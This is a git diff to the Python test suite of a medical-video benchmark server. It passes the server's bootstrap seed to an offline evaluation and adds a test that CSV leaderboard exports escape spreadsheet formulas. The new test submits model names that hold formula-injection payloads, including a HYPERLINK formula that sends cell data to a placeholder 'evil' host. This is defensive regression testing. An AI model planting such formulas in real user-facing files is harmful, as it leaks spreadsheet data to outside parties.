@@ -5,6 +5,8 @@ leaves the server, walked route by route as every kind of user."""
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import json
 import re
 import subprocess
@@ -24,7 +26,7 @@ from medvidbench.server.runtime import Runtime
 from medvidbench.server.services.catalogue import load_benchmark
 from medvidbench.server.services.submissions import submit
 from medvidbench.server.store.db import upgrade
-from medvidbench.server.store.models import EvaluationEvidence
+from medvidbench.server.store.models import EvaluationEvidence, TestSet
 from medvidbench.server.web.app import create_app
 from tests.server.conftest import make_user
 from tests.web.conftest import csrf, token_for
@@ -86,10 +88,18 @@ def test_the_consensus_page_api_and_csv(site: dict[str, Any]) -> None:
 
 
 def test_rank_on_reports_gives_what_the_server_shows(site: dict[str, Any], tmp_path: Path) -> None:
-    """The same submissions evaluated offline (same bootstrap: 1,000 replicates, seed 0)."""
+    """The same submissions evaluated offline with the server's bootstrap: 1,000 replicates,
+    and the seed the server draws with (on a hidden-label benchmark its secret, which whoever
+    holds the test set can derive)."""
+    rt = site["rt"]
     reports = []
     for slug in SLUGS:
         demo = site["demos"][slug]
+        with rt.sessions() as session:
+            gt_sha256 = session.scalar(
+                select(TestSet.gt_sha256).where(TestSet.slug == slug, TestSet.is_current)
+            )
+        seed = rt.bootstrap_seed(rt.definition(slug), gt_sha256)
         for archetype in FAMILY:
             out = tmp_path / f"{slug}-{archetype}.json"
             done = subprocess.run(
@@ -104,6 +114,8 @@ def test_rank_on_reports_gives_what_the_server_shows(site: dict[str, Any], tmp_p
                     "--benchmark",
                     slug,
                     "--per-item",
+                    "--seed",
+                    str(seed),
                     "--model-name",
                     f"Family {archetype}",
                     "--out",
@@ -259,3 +271,18 @@ def test_per_item_evidence_is_returned_by_no_route(site: dict[str, Any]) -> None
             body = answer.text
             assert not NUMBERS.search(body), (who, path)
             assert not any(s in body for s in secrets), (who, path)
+
+
+def test_a_model_name_is_never_a_formula_in_the_csv(site: dict[str, Any]) -> None:
+    """As the boards' exports: a formula may start after any separator a spreadsheet splits
+    the cell on, not only at its start (a security review found ``;=HYPERLINK(...)`` live).
+    Last in this file: it adds entries to the module's shared site."""
+    rt, demos = site["rt"], site["demos"]
+    names = ['Calc;=HYPERLINK("http://evil/?"&A1,"x")', "=1+1", "x|@SUM(A1)"]
+    for n, name in enumerate(names):
+        data = demos["medsg"]["strong"].read_bytes() + b"\n" * (n + 1)  # each file its own
+        submit(rt, make_user(rt, f"calc{n}"), data, name, benchmark="medsg")
+    rows = list(csv.reader(io.StringIO(site["client"].get("/consensus.csv").text)))
+    shown = {row[2] for row in rows[1:]}
+    assert {'Calc;\'=HYPERLINK("http://evil/?"&A1,"x")', "'=1+1", "x|'@SUM(A1)"} <= shown
+    assert not any(re.search(r"(^|[,;|\t])\s*[=+@]", cell) for cell in shown)
